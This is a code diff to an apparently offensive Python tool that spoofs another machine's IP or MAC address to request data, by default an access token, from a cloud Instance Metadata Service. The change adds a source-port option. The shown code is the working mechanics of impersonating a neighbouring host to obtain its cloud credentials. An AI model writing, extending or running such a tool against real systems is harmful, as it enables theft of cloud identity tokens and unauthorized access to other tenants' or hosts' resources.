@@ -63,14 +63,14 @@ def by_address(claim: str, request: bytes, seconds: float) -> bytes:
     raise TimeoutError("no conversation came about")
 
 
-def answer(trick: str, claim: str, request: bytes, seconds: float) -> bytes:
-    """Return what came back for `request`, sent in the name of `claim`."""
+def answer(trick: str, claim: str, request: bytes, seconds: float, port: int = 0) -> bytes:
+    """Return what came back for `request`, sent in the name of `claim`, from `port` if given."""
     if trick == "address":
         return by_address(claim, request, seconds)
     mac, address = own()
     if trick == "mac":
         mac = Wire(mac, address).resolve(claim, time.monotonic() + seconds)
-    return Wire(mac, claim).converse(IMDS, gateway(), request, seconds)
+    return Wire(mac, claim).converse(IMDS, gateway(), request, seconds, port=port)
 
 
 def main() -> None:
@@ -80,11 +80,12 @@ def main() -> None:
     options.add_argument("--claim", required=True, metavar="ADDRESS")
     options.add_argument("--seconds", type=float, default=15, help="how long to try")
     options.add_argument("--path", default=TOKEN, help="what to ask IMDS for")
+    options.add_argument("--port", type=int, default=0, help="the port to send from")
     asked = options.parse_args()
     host = f"Host: {IMDS[0]}\r\nMetadata: true\r\nConnection: close\r\n"
     request = f"GET {asked.path} HTTP/1.1\r\n{host}\r\n".encode()
     try:
-        came = answer(asked.trick, asked.claim, request, asked.seconds)
+        came = answer(asked.trick, asked.claim, request, asked.seconds, asked.port)
     except TimeoutError as nothing:
         sys.exit(f"no answer: {nothing}")
     head, _, body = came.partition(b"\r\n\r\n")
